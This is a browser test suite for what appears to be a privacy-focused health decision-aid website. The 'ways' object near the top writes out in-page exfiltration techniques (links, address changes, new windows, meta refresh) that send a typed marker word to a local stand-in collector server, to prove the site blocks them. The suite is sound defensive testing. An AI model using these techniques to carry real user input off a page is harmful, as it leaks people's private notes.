// What an attacker, a careless author or a bad host could do beside what the other files try: send words out by a link or
// an address, read the page from another page of its site, serve nonsense, or never answer.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';

import { assertCalm, button, cards, decisionPage, field, follow, go, heading, live, onDevice, ownAddress, published, quiet, say, visit } from './hostile.mjs';
import { dist, launch, open, serve } from './support.mjs';

let browser;
const collectors = [];
before(async () => { browser = await launch(); });
after(async () => {
  await browser.close();
  for (const it of collectors) it.close();
});

/** Another site, which takes whatever reaches it. Closed in the end, also when a test fails: none keeps the run waiting. */
async function collector() {
  const taken = [];
  const server = createServer((request, response) => {
    if (!/favicon/.test(request.url)) taken.push(decodeURIComponent(request.url));
    response.setHeader('content-type', 'text/html');
    response.end('<title>Outside</title>');
  });
  server.on('connection', (socket) => socket.unref());
  server.unref();
  await new Promise((done) => server.listen(0, '127.0.0.1', done));
  const close = () => { server.closeAllConnections(); server.close(); };
  collectors.push({ close });
  return { origin: `http://127.0.0.1:${server.address().port}`, taken };
}

/** Ways to send words out that no policy stops. Run inside the page. */
const ways = {
  link: (out) => { const a = Object.assign(document.createElement('a'), { href: `${out}/link?zebrafink` }); document.body.append(a); a.click(); },
  'link in a new tab': (out) => { const a = Object.assign(document.createElement('a'), { href: `${out}/tab?zebrafink`, target: '_blank', rel: 'noopener' }); document.body.append(a); a.click(); },
  address: (out) => { location.href = `${out}/address?zebrafink`; },
  replace: (out) => { location.replace(`${out}/replace?zebrafink`); },
  'new window': (out) => { window.open(`${out}/window?zebrafink`); },
  refresh: (out) => { const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = `0;url=${out}/refresh?zebrafink`; document.head.append(meta); },
  'own address': () => { location.href = 'zebrafink.en.html?zebrafink'; },
};

/** Closing a page that holds words asks first; these tests want to leave. */
const agree = (page) => page.on('dialog', (dialog) => dialog.accept());

for (const [name, way] of Object.entries(ways)) {
  test(`${name}: carries no words out; without the script it would`, async () => {
    const out = await collector();
    const guarded = await visit(browser);
    agree(guarded.page);
    await go(guarded.page, 'my-page');
    await field(guarded.page, 'note-label').fill('zebrafink');
    await guarded.page.evaluate(way, out.origin).catch(() => {});
    await guarded.page.waitForTimeout(700);
    assert.deepEqual(out.taken, []);
    assert.ok(!guarded.site.requests.some((it) => /zebrafink/.test(it.path + it.query)), 'nor to its own host');
    assert.equal(await field(guarded.page, 'note-label').inputValue(), 'zebrafink', 'and the page stays');
    await guarded.close();

    const boot = published(decisionPage).match(/app\/boot-[0-9a-f]+\.js/)[0];
    const bare = await visit(browser, { running: false, prepare: (site) => site.lose(boot) });
    await bare.page.evaluate(way, out.origin).catch(() => {});
    for (let tries = 0; tries < 40 && !leaked(); tries += 1) await bare.page.waitForTimeout(100);
    function leaked() { return out.taken.length + bare.site.requests.filter((it) => it.query === '?zebrafink').length; }
    assert.ok(leaked() > 0, 'the planted leak is seen where nothing stops it');
    await bare.close();
  });
}

test('a link that a card has still leads where it says: a page, a telephone number, mail', async () => {
  const out = await collector();
  const decision = published(`${cards}decision.md`);
  const { page, context, close } = await visit(browser, {
    prepare: (site) => site.answer(`${cards}decision.md`, decision.replace('](#who-for)\n\n', `](#who-for)\n\nSee [the charity](https://charity.example/a?b=c), [ring](tel:0300-123), [write](mailto:a@b.example).\n\n`)),
  });
  await context.route('https://charity.example/**', (route) => route.fulfill({ contentType: 'text/html', body: '<title>Charity</title>' }));
  await page.evaluate(() => { window.pressed = []; document.addEventListener('click', (event) => { window.pressed.push(event.target.closest('a')?.protocol + event.defaultPrevented); event.preventDefault(); }); });
  await go(page, 'who-for');
  for (const name of ['ring', 'write', 'the charity']) await page.getByRole('link', { name, exact: true }).first().click();
  assert.deepEqual(await page.evaluate(() => window.pressed), ['tel:false', 'mailto:false', 'https:false']);
  assert.deepEqual(out.taken, []);
  await close();
});

/** Nothing can be entered, and it says why. */
async function assertRefused(where) {
  await where.getByText(say('beside'), { exact: true }).waitFor({ timeout: 5000 });
  assert.equal(await where.getByRole('textbox').count(), 0);
}

test('a page of the same site that opened this one could read it: nothing can be entered', async () => {
  const site = await serve(dist);
  site.answer('other.html', '<!doctype html><title>Other</title>');
  const page = await open(browser);
  await page.goto(site.at('other.html'));
  const [opened] = await Promise.all([page.waitForEvent('popup'), page.evaluate((address) => { window.child = window.open(address); }, site.at(decisionPage))]);
  await opened.waitForLoadState();
  const readable = await page.evaluate(() => Boolean(window.child?.document?.title));
  if (readable) await assertRefused(opened);
  else await live(opened);
  assert.equal(readable, !process.env.TANDEM_HEADERS || readable, 'with headers the browser parts them already, or it is refused');
  await page.context().close();
  await site.close();
});

/** Another site's page with frames beside each other. */
async function besideEachOther(names) {
  const aid = await serve(dist);
  aid.answer('plain.html', '<!doctype html><title>Plain</title><p>A page of the same site');
  const host = await serve();
  host.answer('index.html', `<!doctype html><title>Host</title>${names.map((name) => `<iframe src="${aid.at(name)}" title="${name}" width="600" height="600"></iframe>`).join('')}`);
  const page = await open(browser);
  await page.goto(host.at().replace('127.0.0.1', 'localhost'));
  const close = async () => { await page.context().close(); await host.close(); await aid.close(); };
  return { page, frame: (place) => page.frameLocator('iframe').nth(place), close };
}

test('a page of the same site beside this one could read it: nothing can be entered', async () => {
  const { frame, close } = await besideEachOther(['plain.html', decisionPage]);
  await assertRefused(frame(1));
  await close();
});

test('two decisions beside each other both work', async () => {
  const { frame, close } = await besideEachOther([decisionPage, 'breast-surgery.en.html']);
  for (const place of [0, 1]) {
    await frame(place).locator('html.live').waitFor({ state: 'attached' });
    assert.equal(await frame(place).getByText(say('beside'), { exact: true }).isVisible(), false);
  }
  await close();
});

const hang = (path) => (site) => site.delay(path, 600_000);
const words = published('content/words/en.yaml');
const said = (page) => page.getByText(say('unread'), { exact: true });

for (const path of ['content/settings.yaml', `${cards}surgery.md`]) {
  test(`${path} never comes: that part is missing, and the rest works`, async () => {
    const { page, close } = await visit(browser, { running: false, prepare: hang(path) });
    page.setDefaultTimeout(20_000);
    await live(page);
    await follow(page, 'place-matters');
    await button(page.getByRole('main'), 'pile-lot').first().click();
    await button(page, 'clear').waitFor();
    assert.deepEqual(page.seen.errors, []);
    await close();
  });
}

test('a style that never comes does not keep the page blank', async () => {
  const site = await serve(dist);
  site.delay('theme.css', 600_000);
  const page = await open(browser);
  await page.goto(site.at(decisionPage), { waitUntil: 'commit' });
  await page.waitForFunction(() => performance.getEntriesByType('paint').length > 0, null, { timeout: 5000 });
  await live(page);
  await page.context().close();
  await site.close();
});

const nonsense = {
  'words that are something else': ['content/words/en.yaml', '{"error": "not found", "status": 200}', decisionPage],
  'words that are all blank': ['content/words/en.yaml', words.replace(/^([a-z][a-z0-9-]*):.*$/gm, '$1: ""'), decisionPage],
  'words of which one is blank': ['content/words/en.yaml', words.replace(/^clear:.*$/m, 'clear:'), decisionPage],
  'a list of topics that says it is not found': ['content/library.en.md', 'not found', 'index.html'],
  'a card of five megabytes': [`${cards}decision.md`, '# A\n\n' + '| a | b |\n'.repeat(500_000), decisionPage],
};
for (const [name, [path, text, page]] of Object.entries(nonsense)) {
  test(`${name}: the page as built is used, and says so`, async () => {
    const start = performance.now();
    const { page: tab, close } = await visit(browser, { path: page, running: false, prepare: (site) => site.answer(path, text) });
    tab.setDefaultTimeout(10_000);
    await said(tab).waitFor();
    await heading(tab).waitFor();
    assert.equal(await tab.locator('html.live').count(), 0);
    if (page === 'index.html') await tab.getByRole('link', { name: 'Prostate cancer that has not spread' }).waitFor();
    assert.ok(performance.now() - start < 10_000);
    await close();
  });
}

const withdrawn = (path) => (site) => site.answer(path, published(path).replace(/^status: .*$/m, 'status: withdrawn'));
const stale = published('index.en.html').match(/(?<=")support-[a-z-]+\.en\.html/)?.[0] ?? 'support-money.en.html';

test('what was withdrawn on the server shows no number wherever a script can run', async () => {
  const support = stale.replace(/^support-(.*)\.en\.html$/, 'content/support/en/$1.md');
  for (const [path, card] of [[`about-${decisionPage}`, `${cards}decision.md`], [stale, support]]) {
    const { page, close } = await visit(browser, { path, running: false, prepare: withdrawn(card) });
    await page.getByText(say('expired'), { exact: true }).waitFor();
    assert.equal((await page.locator('#page').innerText()).trim(), '', path);
    assertCalm(page);
    await close();
  }
  // The program itself, and a page whose program could not start.
  const { page, close } = await visit(browser, { prepare: withdrawn(`${cards}decision.md`) });
  await page.locator('#page').getByText(say('expired'), { exact: true }).first().waitFor();
  assert.equal(await page.getByText('46 out of 100').count(), 0);
  await close();
  const broken = await visit(browser, { running: false, prepare: (site) => { withdrawn(`${cards}decision.md`)(site); site.lose('content/words/en.yaml'); } });
  await broken.page.getByText(say('expired'), { exact: true }).waitFor();
  assert.equal(await broken.page.getByText('46 out of 100').count(), 0);
  await broken.close();
});

test('a page whose last day has passed shows nothing more, also where its card cannot be had', async () => {
  const site = await serve(dist);
  const page = await open(browser);
  await page.clock.setFixedTime(new Date('2031-01-01T12:00:00'));
  site.lose(`${cards}decision.md`);
  await page.goto(site.at(`about-${decisionPage}`));
  await page.getByText(say('expired'), { exact: true }).waitFor();
  assert.equal((await page.locator('#page').innerText()).trim(), '');
  await page.context().close();
  await site.close();
});

test('leaving sends nothing to the own host either, not even a beacon', async () => {
  const { page, site, close } = await visit(browser, { prepare: ownAddress });
  agree(page);
  await go(page, 'my-page');
  await field(page, 'note-label').fill('zebrafink');
  // What the page keeps for use without a network it asks for by itself: that is no answer to leaving.
  await onDevice(page);
  const before = site.requests.length;
  await page.goto('about:blank');
  await new Promise((done) => setTimeout(done, 500));
  const after = site.requests.slice(before);
  assert.deepEqual(after.map((it) => `${it.method} ${it.path} ${it.body}`), []);
  await close();
});

const trouble = (page) => page.getByRole('heading', { name: say('trouble-title'), exact: true });

test('a fault that the program cannot tell of is heard, thrown or in a promise', async () => {
  for (const fault of [
    () => { setTimeout(() => { throw new WebAssembly.RuntimeError('unreachable'); }); },
    () => { Promise.reject(new WebAssembly.RuntimeError('unreachable')); },
  ]) {
    const { page, close } = await visit(browser);
    await page.evaluate(fault);
    await trouble(page).waitFor();
    await close();
  }
});

/** What the device keeps, by topic. */
const records = (page) => page.evaluate(async () => {
  const db = await new Promise((done) => { indexedDB.open('tandem').onsuccess = (event) => done(event.target.result); });
  const asks = db.transaction('parts').objectStore('parts').getAllKeys();
  await new Promise((done) => { asks.onsuccess = done; });
  db.close();
  return asks.result.filter((key) => key !== '.cleared');
});

test('"Clear everything" clears what the device keeps as well, about every topic', async () => {
  const { page, context, site, close } = await visit(browser, { prepare: ownAddress });
  agree(page);
  const other = await context.newPage();
  await other.goto(site.at('statin.en.html#my-page'));
  await live(other);
  await field(other, 'note-label').fill('of another topic');
  await other.getByText(say('keep-own-device')).locator('..').getByRole('button').first().click();
  await button(other, 'kept-delete').waitFor();
  await other.close();
  await go(page, 'my-page');
  await field(page, 'note-label').fill('zebrafink');
  await page.getByText(say('keep-own-device')).locator('..').getByRole('button').first().click();
  await page.waitForTimeout(300);
  await page.reload();
  await live(page);
  assert.equal(await field(page, 'note-label').inputValue(), 'zebrafink', 'it was kept');
  assert.deepEqual(await records(page), ['prostate-localised', 'statin']);
  await page.evaluate(() => { setTimeout(() => { throw new WebAssembly.RuntimeError('unreachable'); }); });
  await trouble(page).waitFor();
  await page.getByRole('button', { name: say('trouble-clear') }).click();
  await heading(page).waitFor();
  for (let tries = 0; tries < 50 && (await records(page)).length; tries += 1) await page.waitForTimeout(100);
  assert.deepEqual(await records(page), []);
  assert.deepEqual(await page.evaluate(() => ({ ...localStorage })), {});
  await page.reload();
  await live(page);
  await go(page, 'my-page');
  assert.equal(await field(page, 'note-label').inputValue(), '');
  await close();
});

const shippedRules = readFileSync(`${dist}/_headers`, 'utf8');
test('what a host is told to send is only what a page cannot say itself', () => {
  assert.doesNotMatch(shippedRules.replace(/^#.*$/gm, ''), /Content-Security-Policy|bluetooth/);
  assert.match(shippedRules, /Cross-Origin-Opener-Policy: same-origin/);
});

test('with the list of allowed connections, links, telephone numbers and mail still work, and nothing else gets out', async () => {
  const out = await collector();
  const site = await serve(dist, { headers: { 'connection-allowlist': '(response-origin "https://charity.example/*" "mailto:*" "tel:*");webrtc=block' } });
  site.answer('list.html', `<!doctype html><title>List</title><a id="tel" href="tel:0300">t</a><a id="mail" href="mailto:a@b.example">m</a><a id="out" href="${out.origin}/out">o</a>`);
  const page = await open(browser);
  await page.goto(site.at('list.html'));
  for (const id of ['tel', 'mail']) {
    await page.locator(`#${id}`).click();
    await page.waitForTimeout(400);
    assert.equal(page.url(), site.at('list.html'), `${id} leaves the page where it is`);
  }
  await page.locator('#out').click();
  await page.waitForTimeout(600);
  assert.deepEqual(out.taken, []);
  await page.context().close();
  await site.close();
});
